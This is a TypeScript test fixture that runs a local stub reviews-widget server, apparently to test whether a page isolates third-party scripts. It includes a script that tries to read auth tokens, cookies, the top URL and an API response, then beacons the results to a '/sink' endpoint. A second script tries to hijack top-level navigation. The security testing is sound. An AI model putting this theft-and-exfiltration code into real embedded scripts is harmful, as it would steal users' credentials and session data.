import { once } from 'node:events'
import { createServer } from 'node:https'
import type { AddressInfo } from 'node:net'
import { selfSigned } from '../attacks/self-signed.ts'

interface StubWidget {
  url: string
  /** Every request that it received: URL, headers and body. */
  received: string[]
  close(): Promise<void>
}

/** A third-party reviews service on its own origin. `/silent.js` never answers. */
export async function startStubWidget(): Promise<StubWidget> {
  const received: string[] = []
  const server = createServer(selfSigned(), (request, response) => {
    const { url = '', headers } = request
    let body = ''
    request.on('data', chunk => {
      body += chunk
    })
    request.on('end', () => {
      received.push(`${url} ${JSON.stringify(headers)} ${body}`)
      if (url === '/silent.js') return
      const script = SCRIPTS[url]
      response.setHeader('access-control-allow-origin', '*')
      if (script) response.setHeader('content-type', 'text/javascript; charset=utf-8')
      response.writeHead(script || url.startsWith('/sink') ? 200 : 404).end(script ?? '')
    })
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  return {
    url: `https://localhost:${(server.address() as AddressInfo).port}`,
    received,
    async close() {
      server.closeAllConnections()
      server.close()
      await once(server, 'close')
    },
  }
}

/** Tries to read what a hostile script would, and returns the results. In the page itself it succeeds. */
export const EXFILTRATION_SCRIPT = `(async () => {
  const attempts = {
    token: () => parent.localStorage.getItem('auth-token'),
    ownToken: () => localStorage.getItem('auth-token'),
    page: () => parent.document.title,
    address: () => top.location.href,
    cookie: () => document.cookie,
    api: async () => (await fetch('/api/settingsRoute/facts')).text(),
    origin: () => origin,
  }
  const stolen = {}
  for (const [name, attempt] of Object.entries(attempts)) {
    try { stolen[name] = String(await attempt()) } catch (error) { stolen[name] = 'refused: ' + error.name }
  }
  return stolen
})()`

const SCRIPTS: Record<string, string> = {
  '/loader.js': `window.stubName = 'Service d’avis'`,
  '/widget.js': `
    const place = document.currentScript
    const list = document.createElement('section')
    list.innerHTML = '<h2></h2><p>« Travail propre. » Une cliente, sur le service externe.</p><a href="https://avis.example/">Tous les avis</a>'
    list.querySelector('h2').textContent = stubName
    list.style.padding = '20px'
    place.after(list)
    const home = new URL(place.src).origin;
    ${EXFILTRATION_SCRIPT}.then(stolen => {
      new Image().src = home + '/sink-picture?' + encodeURIComponent(JSON.stringify(stolen))
      return fetch(home + '/sink', { method: 'POST', body: JSON.stringify(stolen) })
    })`,
  '/hostile.js': `
    const home = new URL(document.currentScript.src).origin
    try { top.location = home + '/sink-navigation' } catch {}
    location = home + '/sink-frame'`,
  '/empty.js': ';',
}
